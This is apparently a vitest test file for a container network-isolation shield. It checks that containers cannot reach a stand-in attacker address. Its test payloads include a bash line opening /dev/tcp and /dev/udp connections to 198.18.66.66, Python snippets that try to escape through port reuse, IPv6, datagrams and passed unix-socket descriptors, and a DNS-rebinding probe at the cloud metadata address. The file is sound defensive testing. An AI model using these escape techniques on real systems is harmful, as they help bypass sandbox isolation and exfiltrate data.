import { afterAll, beforeAll, expect, test } from "vitest";
import { createLab, type Lab } from "../src/lab/lab.ts";
import { PLATFORM } from "../src/lab/platform.ts";
import { until } from "../src/lab/until.ts";
import { installedShield } from "../tests/installed-shield.ts";
import { startShielded } from "../tests/shielded-container.ts";

/** 200 with `pnpm attack:full`. */
const STARTS = process.env.ATTACK_FULL === "1" ? 200 : 10;
/** The very first instructions: no interpreter that takes long to start. */
const FIRST = "exec 3>/dev/udp/198.18.66.66/9000; echo x >&3; exec 4<>/dev/tcp/198.18.66.66/9000";

const EVIL = `
import errno, json, os, socket, sys
def attempt(client, address=("198.18.66.66", 9000)):
    try:
        client.settimeout(5)
        client.connect(address)
        client.sendall(b"x")
        return "answered" if client.recv(9) else "closed"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
`;

/** Serves a port, and tries to get out by it while somebody is connected. */
const REPLY_TRICKS = `${EVIL}
def same_port(family):
    client = socket.socket(family)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    client.bind(("", 9001))
    return client
def datagram():
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.bind(("", 9001))
    try:
        client.sendto(b"x", ("198.18.66.66", 9000))
        return "sent"
    except OSError as error:
        return errno.errorcode[error.errno]
server = socket.create_server(("", 9001), family=socket.AF_INET6, dualstack_ipv6=True, reuse_port=True)
print("up", flush=True)
client, peer = server.accept()
outcomes = {
    "from the port": attempt(same_port(socket.AF_INET)),
    "over IPv6": attempt(same_port(socket.AF_INET6), ("2001:2::6666", 9000)),
    "a datagram": datagram(),
}
client.sendall(json.dumps(outcomes).encode() + b"\\n")
client.recv(9)
`;

/** A service on a unix socket: says hello, hands over a connection of its own, and uses a socket that it is given. */
const HANDS_OVER = `${EVIL}
server = socket.socket(socket.AF_UNIX)
server.bind("/tmp/open/plain.sock")
server.listen()
print("ready", flush=True)
client, _ = server.accept()
client.sendall(b"hello")
own = socket.create_connection(("198.18.66.66", 9000))
socket.send_fds(client, [b"x"], [own.fileno()])
_, [given], _, _ = socket.recv_fds(client, 1, 1)
print("its socket, used outside:", attempt(socket.socket(fileno=given)), flush=True)
`;

const TAKES_OVER = `${EVIL}
client = socket.socket(socket.AF_UNIX)
client.connect("/open/plain.sock")
outcomes = {"the service": client.recv(5).decode()}
_, [given], _, _ = socket.recv_fds(client, 1, 1)
theirs = socket.socket(fileno=given)
theirs.sendall(b"x")
outcomes["a connection of the other's"] = "answered" if theirs.recv(1) else "closed"
outcomes["the same by itself"] = attempt(socket.socket())
own = socket.socket()
socket.send_fds(client, [b"x"], [own.fileno()])
print(json.dumps(outcomes), flush=True)
`;

let lab: Lab;
beforeAll(async () => {
  lab = await createLab({ shieldPrefix: installedShield() });
  await lab.user.writeFile(`${lab.user.home}/.config/terok/shield/profiles/starts.txt`, "198.18.1.1\n");
});
afterAll(() => lab?.destroy());

test(
  `a first instruction that connects gets nowhere, in ${STARTS} starts`,
  async () => {
    const plain = ["--rm", ...lab.imageArgs, "bash", "-c", FIRST];
    await lab.podman(["run", PLATFORM.network.option, ...plain]);
    expect((await evilArrivals()).length).toBeGreaterThanOrEqual(2);
    await lab.internet.reset();
    for (let start = 0; start < STARTS; start += 1) {
      const { exitCode, stderr } = await lab.shield([
        "run",
        "starts",
        "--profiles",
        "starts",
        "--",
        ...plain,
      ]);
      expect({ exitCode, stderr }).toEqual({
        exitCode: 1,
        stderr: expect.stringContaining("No route to host"),
      });
    }
    expect(await evilArrivals()).toEqual([]);
  },
  60_000 + STARTS * 10_000,
);

test("a name that is answered with a public address first and then a private one opens nothing private", async () => {
  await lab.internet.setName("flip.test", { addresses: ["198.18.0.60"], ttlSeconds: 0 });
  const shielded = await startShielded(lab, "flip", "flip.test\n");
  expect(await shielded.see("tcp,flip.test,80")).toEqual({ "tcp,flip.test,80": "open" });
  for (const address of ["10.77.0.7", "169.254.169.254", "192.168.77.7"]) {
    await lab.internet.setName("flip.test", { addresses: [address], ttlSeconds: 0 });
    await lab.internet.reset();
    expect((await shielded.client.attempt("tcp,flip.test,80"))[0]).not.toBe("answered");
    expect(await shielded.see(`tcp,${address},80`)).toEqual({ [`tcp,${address},80`]: "refused" });
    expect((await lab.internet.arrivals()).filter((arrival) => arrival.address === address)).toEqual([]);
  }
  await shielded.remove();
});

test("from a published port nothing goes to one who never asked", async () => {
  const send =
    "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.bind(('',9001));s.sendto(b'x',('198.18.66.66',9000))";
  const attack = [...["--rm", "--publish", "9001:9001/udp"], ...lab.imageArgs, "python3", "-c", send];
  await lab.internet.reset();
  await lab.podman(["run", PLATFORM.network.option, ...attack]);
  expect((await evilArrivals()).length).toBe(1);
  await lab.internet.reset();
  const { stderr } = await lab.shield(["run", "starts", "--profiles", "starts", "--", ...attack]);
  expect(stderr).toContain("Operation not permitted");
  expect(await evilArrivals()).toEqual([]);
});

test("from a published port nothing goes to others while it is in use, by its port or back to who uses it", async () => {
  const publish = ["--publish", "127.0.0.1:18001:9001", ...lab.imageArgs, "python3", "-c", REPLY_TRICKS];
  const askInside = async () => {
    const ask =
      "import socket;s=socket.create_connection(('127.0.0.1',18001));print(s.makefile().readline())";
    await until("the port is served", async () =>
      (await lab.podman(["logs", "published"])).stdout.includes("up"),
    );
    const answer = JSON.parse(await lab.user.mustRun("python3", ["-c", ask])) as Record<string, string>;
    await lab.user.mustRun("podman", ["rm", "--force", "--time=0", "published"]);
    return answer;
  };
  await lab.internet.reset();
  await lab.user.mustRun("podman", ["run", "-d", "--name=published", "--network=slirp4netns", ...publish]);
  expect(await askInside()).toEqual({
    "from the port": "answered",
    "over IPv6": "answered",
    "a datagram": "sent",
  });
  const control = (await lab.internet.arrivals()).map(({ protocol, address }) => `${protocol} ${address}`);
  expect([...new Set(control)].sort()).toEqual(["tcp 198.18.66.66", "tcp 2001:2::6666", "udp 198.18.66.66"]);
  await lab.internet.reset();
  await lab.user.mustRun("terok-shield", [
    ...["run", "published", "--profiles", "starts", "--", "-d"],
    ...publish,
  ]);
  expect(await askInside()).toEqual({
    "from the port": "EHOSTUNREACH",
    "over IPv6": "ECONNREFUSED",
    "a datagram": "EPERM",
  });
  expect(await lab.internet.arrivals()).toEqual([]);
});

/** A known limit: what the owner mounts is the container's. */
test("a unix socket that the owner mounts is reached, and so is what it hands over, as the limits say", async () => {
  const { user } = lab;
  await user.mustRun("mkdir", ["-p", "/tmp/open"]);
  const outside = await user.spawn("python3", ["-c", HANDS_OVER]);
  await outside.waitForOutput("ready");
  await lab.internet.reset();
  const mount = ["--rm", "--volume", "/tmp/open:/open", ...lab.imageArgs, "python3", "-c", TAKES_OVER];
  const { stdout } = await lab.shield(["run", "sockets", "--profiles", "starts", "--", ...mount]);
  expect(JSON.parse(stdout)).toEqual({
    "the service": "hello",
    "a connection of the other's": "answered",
    "the same by itself": "EHOSTUNREACH",
  });
  // A socket stays in the network that it was made in, whoever has it.
  await outside.waitForOutput("its socket, used outside: EHOSTUNREACH");
  expect((await evilArrivals()).length).toBe(1);
});

async function evilArrivals() {
  return (await lab.internet.arrivals()).filter(({ address }) => address === "198.18.66.66");
}
